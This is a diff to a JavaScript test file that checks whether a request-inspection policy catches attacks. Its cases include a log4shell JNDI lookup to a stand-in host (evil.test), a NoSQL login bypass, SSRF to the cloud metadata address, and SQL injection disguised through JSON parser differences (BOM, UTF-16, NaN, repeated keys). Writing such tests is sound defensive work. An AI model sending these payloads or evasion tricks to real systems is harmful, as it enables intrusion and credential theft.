@@ -35,6 +35,14 @@ describe('inspect policy', () => {
     ['log4shell in a header', '/x', { headers: { 'user-agent': '${jndi:ldap://evil.test/a}' } }],
     ['nosql operator key', '/login', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"user":"admin","password":{"$ne":null}}' }],
     ['ssrf to metadata', `/fetch?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`],
+    // JSON that JSON.parse does not read as the upstream does: Express drops a BOM and decodes UTF-16,
+    // Python detects UTF-16 from the bytes and takes NaN; some parsers keep a repeated key's first copy.
+    ['sqli in JSON after a byte-order mark', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`{"q":"admin'--"}`)]) }],
+    ['sqli in UTF-16 JSON', '/a', { method: 'POST', headers: { 'content-type': 'application/json; charset=utf-16le' }, body: Buffer.from(`{"q":"admin'--"}`, 'utf16le') }],
+    ['sqli in unlabelled UTF-16 JSON', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.from(`{"q":"1 union select password from users--"}`, 'utf16le') }],
+    ['sqli in JSON with NaN', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"n":NaN,"q":"admin'--"}` }],
+    ['sqli in the first copy of a repeated JSON key', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"q":"admin'--","q":"x"}` }],
+    ['sqli in a repeated nested JSON key', '/a', { method: 'POST', headers: { 'content-type': 'application/json' }, body: `{"u":{"q":"1 union select password from users--","q":"x"},"n":1}` }],
   ];
 
   for (const [name, path, init] of attacks) {
